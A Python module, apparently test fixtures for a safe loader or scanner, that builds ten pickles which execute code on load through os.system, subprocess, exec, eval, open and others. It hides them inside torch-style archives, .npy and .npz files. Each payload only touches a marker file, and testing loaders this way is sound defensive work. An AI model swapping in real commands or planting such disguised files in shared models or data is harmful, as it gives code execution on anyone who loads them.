"""Ten pickles that run a program when they are loaded, and the files that they hide in.

Each leaves a mark: the file whose name it is made with. Where none is opened, there is no mark.
"""

import io
import pickle
import zipfile

import numpy as np


class Calls:
    """Pickles as a call of a function."""

    def __init__(self, function, *arguments):
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def by_name(module, name, *arguments):
    """Pickle a call of what a module holds under a name, without importing it."""
    packed = b"".join(b"X" + len(a.encode()).to_bytes(4, "little") + a.encode() for a in arguments)
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"(" + packed + b"tR."


def gadgets(mark):
    """Make the ten of them; each writes the file `mark`."""
    code = f"open({str(mark)!r}, 'w').close()"
    shell = f"touch {mark}"
    eval_code = f"open({str(mark)!r}, 'w')"
    return {
        "os.system": by_name("os", "system", shell),
        "posix.system": by_name("posix", "system", shell),
        "os.popen": by_name("os", "popen", shell),
        "subprocess.getoutput": by_name("subprocess", "getoutput", shell),
        "exec": pickle.dumps(Calls(exec, code)),
        "eval": pickle.dumps(Calls(eval, eval_code)),
        "open": pickle.dumps(Calls(open, str(mark), "w")),
        "profile.run": by_name("profile", "run", code),
        "_io.open": by_name("_io", "open", str(mark), "w"),
        "subprocess.getstatusoutput": by_name("subprocess", "getstatusoutput", shell),
    }


def disguises(gadget):
    """Wrap a pickle in what loaders of arrays and weights open: by file ending."""
    array = np.array([0], dtype=object)
    npy = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        npy, {"descr": "|O", "fortran_order": False, "shape": array.shape}
    )
    npy.write(gadget)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("archive/data.pkl", gadget)
        file.writestr("archive/version", "3\n")
    arrays = io.BytesIO()
    with zipfile.ZipFile(arrays, "w") as file:
        for name in ("image", "label", "prediction", "spacing_mm", "case_id", "case_ids"):
            file.writestr(f"{name}.npy", npy.getvalue())
    return {
        "pickle": gadget,
        "torch": archive.getvalue(),
        "npy": npy.getvalue(),
        "npz": arrays.getvalue(),
    }
